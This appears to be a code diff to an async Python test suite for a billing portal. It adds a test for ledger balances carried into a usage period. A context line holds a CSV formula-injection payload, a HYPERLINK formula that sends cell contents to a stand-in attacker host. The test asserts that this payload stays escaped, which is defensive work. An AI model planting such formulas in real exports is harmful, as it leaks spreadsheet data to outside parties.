@@ -316,3 +316,19 @@ async def test_a_subject_that_looks_like_a_formula_stays_text_in_the_csv(client)
     [record] = list(csv.reader(text.splitlines()[1:], delimiter=";"))
     assert record[3] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klikk")'
     assert record[10] == "0" and record[12] == "0"  # numbers stay numbers
+
+
+async def test_a_period_starts_from_the_balance_of_everything_before_it(client):
+    await catalog.seed_demo_catalog()
+    form = await register(client)
+    company_id = await _company_id(form["company_name"])
+    await _credit(company_id, 120, 300, "before")
+    long_ago = clock.now() - datetime.timedelta(days=70)
+    await LedgerOperation.update({LedgerOperation.created_at: long_ago}).where(
+        LedgerOperation.company == company_id
+    )
+    await _credit(company_id, 60, 300, "within")
+    rows = _cells((await client.get("/portal/usage?period=this_month")).text)
+    assert [(row[1], row[9], row[11]) for row in rows] == [
+        ("Kjøp av timer", "+60 min", "3 t 0 min")
+    ]
